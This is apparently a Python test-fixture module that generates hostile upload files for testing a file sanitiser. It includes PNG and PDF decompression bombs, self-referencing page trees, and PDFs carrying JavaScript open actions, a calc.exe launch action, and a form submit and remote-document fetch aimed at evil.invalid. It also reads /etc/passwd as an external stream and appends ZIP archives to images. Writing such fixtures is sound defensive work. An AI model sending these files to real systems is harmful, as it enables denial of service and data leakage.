"""Files to hand in: good ones and hostile ones, made on the spot."""

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image, ImageCms, PngImagePlugin

CANARY = "CanaryNoteAboutAPlace"


def picture(
    format_name: str = "PNG",
    *,
    size: tuple[int, int] = (60, 40),
    colour: str = "red",
    mode: str = "RGB",
    text: str = "",
) -> bytes:
    """A small picture of one colour; `text` goes into a note about it."""
    target = BytesIO()
    notes = PngImagePlugin.PngInfo()
    if text:
        notes.add_text("Comment", text)
    options = {"pnginfo": notes} if format_name == "PNG" else {}
    Image.new(mode, size, colour).save(target, format_name, **options)
    return target.getvalue()


def halves(size: tuple[int, int] = (64, 32)) -> Image.Image:
    """A picture whose left half is red and whose right half is blue."""
    whole = Image.new("RGB", size, "red")
    whole.paste("blue", (size[0] // 2, 0, *size))
    return whole


# ------------------------------------------------------------------------------ images


def exif(orientation: int = 1) -> Image.Exif:
    """Exif with a place, a maker's note and a serial number, all with the canary."""
    notes = Image.Exif()
    notes[0x0112] = orientation
    notes[0x010F] = CANARY  # maker
    notes[0x9286] = CANARY.encode()  # user comment
    notes[0x927C] = CANARY.encode()  # maker's note
    notes[0xA431] = CANARY  # serial number
    notes.get_ifd(0x8825).update({1: "N", 2: (48.0, 51.0, 30.0), 3: "E", 4: (2.0, 17.0, 40.0), 29: CANARY})
    return notes


def profile() -> bytes:
    """A colour profile that names the canary."""
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes() + CANARY.encode()


def noted_jpeg(orientation: int = 1, shown: Image.Image | None = None) -> bytes:
    """A JPEG with every kind of note that one can carry, and a ZIP behind its end."""
    target = BytesIO()
    (shown or halves()).save(
        target,
        "JPEG",
        quality=95,
        exif=exif(orientation),
        comment=CANARY.encode(),
        icc_profile=profile(),
        dpi=(111, 111),
    )
    data = target.getvalue()
    xmp = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>" + CANARY.encode() + b"</x:xmpmeta>"
    iptc = b"Photoshop 3.0\x008BIM\x04\x04\0\0\0\0" + CANARY.encode()
    segments = b"".join(
        bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body
        for marker, body in ((0xE1, xmp), (0xED, iptc), (0xEF, CANARY.encode()), (0xFE, CANARY.encode()))
    )
    return data[:2] + segments + data[2:] + zip_file()


def noted_png(orientation: int = 1) -> bytes:
    """A PNG with text of each kind, Exif, a profile, a time, a private chunk, and a ZIP behind its end."""
    target, notes = BytesIO(), PngImagePlugin.PngInfo()
    notes.add_text("Author", CANARY)
    notes.add_text("Comment", CANARY, zip=True)
    notes.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{CANARY}</x:xmpmeta>")
    notes.add(b"prVt", CANARY.encode())
    halves().save(target, "PNG", pnginfo=notes, exif=exif(orientation), icc_profile=profile(), dpi=(111, 111))
    data = target.getvalue()
    head = 8 + 25  # signature and IHDR
    return data[:head] + chunk(b"tIME", b"\x07\xea\x0b\x18\x0c\0\0") + data[head:] + zip_file()


def noted_webp(orientation: int = 1) -> bytes:
    """A WebP with Exif, XMP and a profile."""
    target = BytesIO()
    halves().save(
        target,
        "WEBP",
        lossless=True,
        exif=exif(orientation),
        xmp=f"<x:xmpmeta>{CANARY}</x:xmpmeta>".encode(),
        icc_profile=profile(),
    )
    return target.getvalue()


def chunk(name: bytes, body: bytes) -> bytes:
    """One chunk of a PNG."""
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(chunks: Iterable[tuple[bytes, bytes]]) -> bytes:
    """A PNG of these chunks."""
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(n, b) for n, b in chunks) + chunk(b"IEND", b"")


def header(width: int, height: int, *, colours: int = 0, depth: int = 1) -> tuple[bytes, bytes]:
    """The header of a PNG: by default one bit a pixel."""
    return b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colours, 0, 0, 0)


def bomb(width: int, height: int) -> bytes:
    """A PNG that is small on disk and has very many pixels."""
    row = b"\0" * (1 + (width + 7) // 8)
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return png([header(width, height), (b"IDAT", packed)])


def text_bomb(name: bytes, size: int = 1 << 30) -> bytes:
    """A PNG whose note (`zTXt` or `iCCP`) unpacks to so many bytes."""
    packed = zeros(size)
    pixel = zlib.compress(b"\0\0")
    return png([header(1, 1), (name, b"x\0\0" + packed), (b"IDAT", pixel)])


def zeros(size: int) -> bytes:
    """So many zero bytes, packed; made quickly by saying the same million again and again."""
    packer = zlib.compressobj(9)
    first = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + again * ((size >> 20) - 1)


def animation(format_name: str, frames: int) -> bytes:
    """An animated PNG, GIF or WebP."""
    target = BytesIO()
    pictures = [Image.new("RGB", (8, 8), (n % 256, n // 256, 7)) for n in range(frames)]
    pictures[0].save(target, format_name, save_all=True, append_images=pictures[1:], duration=10)
    return target.getvalue()


def claimed_animation(frames: int) -> bytes:
    """A PNG that claims to have so many frames."""
    control = struct.pack(">II", frames, 0)
    return png([header(1, 1), (b"acTL", control), (b"IDAT", zlib.compress(b"\0\0"))])


def zip_file(name: str = "evil.txt") -> bytes:
    """A ZIP with one file in it."""
    target = BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(name, CANARY)
    return target.getvalue()


# ---------------------------------------------------------------------------- documents

Change = Callable[[Pdf], None]


def pdf(change: Change | None = None, *, pages: int = 1, hidden: bool = False, **options: object) -> bytes:
    """A document of so many pages, changed; `hidden` puts its objects into compressed object streams."""
    target = BytesIO()
    with pikepdf.new() as made:
        for number in range(pages):
            made.add_blank_page(page_size=(200, 100))
            made.pages[number].Contents = Stream(made, b"0 0 1 rg 10 10 50 50 re f")
        if change is not None:
            change(made)
        mode = pikepdf.ObjectStreamMode.generate if hidden else pikepdf.ObjectStreamMode.disable
        made.save(target, object_stream_mode=mode, **options)  # type: ignore[arg-type]
    return target.getvalue()


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('x')"))


def open_action(made: Pdf) -> None:
    """A script that runs when the document is opened."""
    made.Root.OpenAction = _script()


def named_script(made: Pdf) -> None:
    """A script in the document's list of scripts."""
    listed = made.make_indirect(Dictionary(Names=Array([String("x"), made.make_indirect(_script())])))
    made.Root.Names = Dictionary(JavaScript=listed)


def script_in_a_stream(made: Pdf) -> None:
    """A script whose text is a stream."""
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=Stream(made, b"app.alert('x')"))


def page_action(made: Pdf) -> None:
    """A script that runs when a page is shown."""
    made.pages[0].obj.AA = Dictionary(O=_script())


def launch(made: Pdf) -> None:
    """An action that starts a program."""
    made.Root.OpenAction = Dictionary(S=Name.Launch, F=String("calc.exe"))


def submit(made: Pdf) -> None:
    """A form with a button that sends its fields."""
    action = Dictionary(S=Name.SubmitForm, F=String("http://evil.invalid/"))
    button = made.make_indirect(_widget(FT=Name.Btn, A=action))
    made.pages[0].obj.Annots = Array([button])
    made.Root.AcroForm = Dictionary(Fields=Array([button]))


def xfa(made: Pdf) -> None:
    """A form that is a program of its own."""
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(made, b"<xdp:xdp/>"))


def remote(made: Pdf) -> None:
    """An action that opens another document."""
    made.Root.OpenAction = Dictionary(S=Name.GoToR, F=String("\\\\evil.invalid\\x.pdf"), D=String("x"))


def external_stream(made: Pdf) -> None:
    """A part of the page whose content is another file."""
    outside = Stream(made, b"")
    outside["/F"] = String("/etc/passwd")
    made.pages[0].Contents = outside


def postscript(made: Pdf) -> None:
    """A picture that is a PostScript program."""
    program = Stream(made, b"%!PS", Type=Name.XObject, Subtype=Name.PS)
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(P=program))


ACTING: dict[str, Change] = {
    c.__name__: c
    for c in (
        open_action,
        named_script,
        script_in_a_stream,
        page_action,
        launch,
        submit,
        xfa,
        remote,
        external_stream,
        postscript,
    )
}


def _widget(**more: object) -> Dictionary:
    return Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, Rect=Array([10, 10, 90, 30]), T=String("field"), F=4, **more
    )


def passive(made: Pdf) -> None:
    """Everything that says something and does nothing: links, notes, an attachment, metadata, a title."""
    text = String(CANARY)
    attached = Dictionary(
        Type=Name.Filespec, F=text, EF=Dictionary(F=Stream(made, CANARY.encode(), Type=Name.EmbeddedFile))
    )
    note = Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([0, 0, 9, 9]), Contents=text)
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.URI, URI=String(f"http://{CANARY}.invalid/")),
    )
    page = made.pages[0].obj
    page.Annots = Array([made.make_indirect(note), made.make_indirect(link)])
    page.PieceInfo = Dictionary(X=Dictionary(Private=text))
    page.Metadata = Stream(made, CANARY.encode(), Type=Name.Metadata, Subtype=Name.XML)
    page.Contents.Metadata = Stream(made, CANARY.encode())
    made.Root.Metadata = Stream(made, CANARY.encode(), Type=Name.Metadata, Subtype=Name.XML)
    made.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([text, made.make_indirect(attached)])))
    made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])
    made.docinfo["/Author"] = text


def photo_inside(made: Pdf) -> None:
    """A page with a telephone's photo, its notes in it."""
    _show(made, Stream(made, noted_jpeg()), Name.DCTDecode)


def packed_photo_inside(made: Pdf) -> None:
    """The same, packed once more."""
    _show(made, Stream(made, zlib.compress(noted_jpeg())), Array([Name.FlateDecode, Name.DCTDecode]))


def _show(made: Pdf, photo: Stream, filters: Name | Array) -> None:
    photo.write(photo.read_raw_bytes(), filter=filters)
    for key, value in {"Type": Name.XObject, "Subtype": Name.Image, "ColorSpace": Name.DeviceRGB}.items():
        photo[f"/{key}"] = value
    photo.Width, photo.Height, photo.BitsPerComponent = 64, 32, 8
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=photo))
    made.pages[0].Contents = Stream(made, b"q 64 0 0 32 10 10 cm /I Do Q")


def signed(made: Pdf) -> None:
    """A filled-in field and a signature drawn with the finger, as annotations."""
    typed = Stream(
        made, b"BT (FilledIn) Tj ET", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 80, 20])
    )
    drawn = Stream(made, b"0 0 m 40 20 l S", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 40, 20]))
    field = made.make_indirect(_widget(FT=Name.Tx, V=String("FilledIn"), AP=Dictionary(N=typed)))
    ink = made.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Ink,
            Rect=Array([100, 10, 140, 30]),
            F=4,
            InkList=Array([Array([0, 0, 40, 20])]),
            AP=Dictionary(N=drawn),
        )
    )
    made.pages[0].obj.Annots = Array([field, ink])
    made.Root.AcroForm = Dictionary(Fields=Array([field]))


def stream_bomb(made: Pdf, size: int = 1 << 30) -> None:
    """A page whose content unpacks to so many bytes."""
    content = Stream(made, b"")
    content.write(zeros(size), filter=Name.FlateDecode)
    made.pages[0].Contents = content


def twice_packed(made: Pdf) -> None:
    """A page whose content is packed twice, each time a thousandfold."""
    once = zlib.compress(bytes(64 << 20), 9)
    content = Stream(made, b"")
    content.write(zlib.compress(once, 9), filter=Array([Name.FlateDecode, Name.FlateDecode]))
    made.pages[0].Contents = content


def many_pages(count: int) -> bytes:
    """A document of so many pages, written by hand."""
    tree = f"<</Type/Pages/Count {count}/Kids[{' '.join(f'{n + 3} 0 R' for n in range(count))}]>>"
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    body, places = b"%PDF-1.7\n", []
    for number, text in enumerate(["<</Type/Catalog/Pages 2 0 R>>", tree, *[page] * count], 1):
        places.append(len(body))
        body += f"{number} 0 obj\n{text}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    size = len(places) + 1
    end = f"trailer\n<</Root 1 0 R/Size {size}>>\nstartxref\n{len(body)}\n%%EOF\n"
    return body + f"xref\n0 {size}\n0000000000 65535 f \n{table}{end}".encode()


def endless_pages(made: Pdf) -> None:
    """A page tree that contains itself."""
    pages = made.Root.Pages
    pages.Kids = Array([*pages.Kids, pages])
    pages.Count = 2


def endless_parents(made: Pdf) -> None:
    """A page without a size whose parent is itself."""
    page = made.pages[0].obj
    del page["/MediaBox"]
    page.Parent = page


def huge_page(made: Pdf) -> None:
    """A page of a million points."""
    made.pages[0].obj.MediaBox = Array([0, 0, 1_000_000, 1_000_000])


def huge_picture(made: Pdf) -> None:
    """A picture that claims 400 megapixels."""
    image = Stream(made, b"\0", Type=Name.XObject, Subtype=Name.Image, Width=20_000, Height=20_000)
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=image))
